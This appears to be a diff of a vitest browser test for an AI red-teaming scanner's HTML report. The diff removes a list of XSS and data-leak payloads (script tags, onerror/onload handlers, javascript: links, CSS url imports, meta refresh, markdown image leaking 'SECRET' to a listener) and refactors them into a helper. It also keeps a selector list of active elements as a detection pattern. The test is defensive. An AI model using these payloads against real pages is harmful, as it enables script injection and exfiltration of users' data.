@@ -1,67 +1,24 @@
-import { mkdtempSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { chromium, type Browser } from 'playwright-core';
 import { CHROMIUM, systemChromium } from './support/system-chromium.js';
 import { afterEach, describe, expect, it } from 'vitest';
-import { replyJson, startLocalServer, type LocalServer } from './support/local-server.js';
+import { startLocalServer, type LocalServer } from './support/local-server.js';
+import { ACTIVE_ELEMENTS, hostileScan } from './support/hostile-run.js';
 import { runCli } from './support/run-cli.js';
 
 const CHROMIUM_ARGS = [
   '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
   '--disable-background-networking', '--disable-component-update', '--disable-sync',
 ];
-// What a payload writes when its script runs.
-const MARK = 'REDLINE-XSS-RAN';
-
 const closers: (() => Promise<void>)[] = [];
 afterEach(async () => {
   while (closers.length) await closers.pop()!();
 });
 
-/** Payloads that would load something from `listener` or run script if a report let them through. */
-function payloads(listener: string): string[] {
-  const js = `document.title='${MARK}';console.log('${MARK}');window.pwned=1`;
-  return [
-    `![x](${listener}/leak?d=SECRET)`,
-    `<img src=${listener}/img>`,
-    `<img src=x onerror="${js}">`,
-    `<script>fetch('${listener}/script');${js}</script>`,
-    `<link rel=stylesheet href=${listener}/link.css>`,
-    `<style>body{background:url(${listener}/css-url)}@import url(${listener}/css-import);</style>`,
-    `<div style="background-image:url('${listener}/inline-style')">styled</div>`,
-    `<iframe src="${listener}/iframe"></iframe>`,
-    `<a href="javascript:${js}">click me</a>`,
-    `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><image href="${listener}/svg-image"/></svg>`,
-    `<meta http-equiv="refresh" content="0;url=${listener}/refresh">`,
-    `<object data="${listener}/object"></object><embed src="${listener}/embed">`,
-    `<base href="${listener}/base/"><form action="${listener}/form"><button>go</button></form>`,
-    `"><img src=${listener}/attr-break>'><script>${js}</script>`,
-    `</pre></details><script>${js}</script><pre>`,
-  ];
-}
-
-/** Scans a fake app whose goals, categories, id and every reply carry the payloads; returns the HTML report path. */
+/** Scans the hostile app and renders its HTML report; returns the report path. */
 async function hostileReport(listener: string): Promise<{ file: string; runId: string }> {
-  const hostile = payloads(listener);
-  const app = await startLocalServer((reply) => replyJson(reply, { body: { output: hostile.join('\n') } }));
-  closers.push(app.close);
-  const dir = mkdtempSync(join(tmpdir(), 'redline-report-browser-'));
-  writeFileSync(join(dir, 'redline.yaml'), JSON.stringify({
-    target: { type: 'http', url: `${app.url}/chat`, responsePath: '$.output', id: `app${hostile[1]}` },
-    // One goal per category, so every reply is shown as an example transcript.
-    goals: hostile.map((text, i) => ({ id: `g${i}${hostile[13]}`, text, category: `c${i} ${text}` })),
-    techniques: ['direct-request'],
-    converters: [[]],
-    trials: 1,
-    concurrency: 4,
-    retry: { maxRetries: 0 },
-    scoring: { scorers: ['refusal'] },
-  }));
-  const scanned = await runCli(['scan', '--no-progress', '--no-reports'], { cwd: dir });
-  expect(scanned.code, scanned.stderr).toBe(0);
-  const runId = /run (r-\S+):/.exec(scanned.stderr)![1]!;
+  const { dir, runId } = await hostileScan(listener, closers);
   const file = join(dir, 'report.html');
   const rendered = await runCli(['report', runId, '--format', 'html', '--out', file], { cwd: dir });
   expect(rendered.code, rendered.stderr).toBe(0);
@@ -69,7 +26,7 @@ async function hostileReport(listener: string): Promise<{ file: string; runId: s
 }
 
 /** Elements that could load or run something; the report itself has none. */
-const ACTIVE_ELEMENTS = 'script, iframe, img, link, object, embed, svg, base, form, a[href^="javascript:" i], meta[http-equiv="refresh" i], [onerror], [onload]';
+const REPORT_ACTIVE = `script, link, svg:not([role=img]), form, ${ACTIVE_ELEMENTS}`;
 
 /** What the page looked like after the payloads had their chance. */
 type PageState = { title: string; pwned: unknown; location: string; active: number; text: string };
@@ -102,7 +59,7 @@ async function openReport(browser: Browser, input: { file: string; bypassCSP: bo
     title: document.title,
     pwned: window.pwned,
     location: location.href,
-    active: document.querySelectorAll(${JSON.stringify(ACTIVE_ELEMENTS)}).length,
+    active: document.querySelectorAll(${JSON.stringify(REPORT_ACTIVE)}).length,
     text: document.body.innerText,
   })`);
   await context.close();
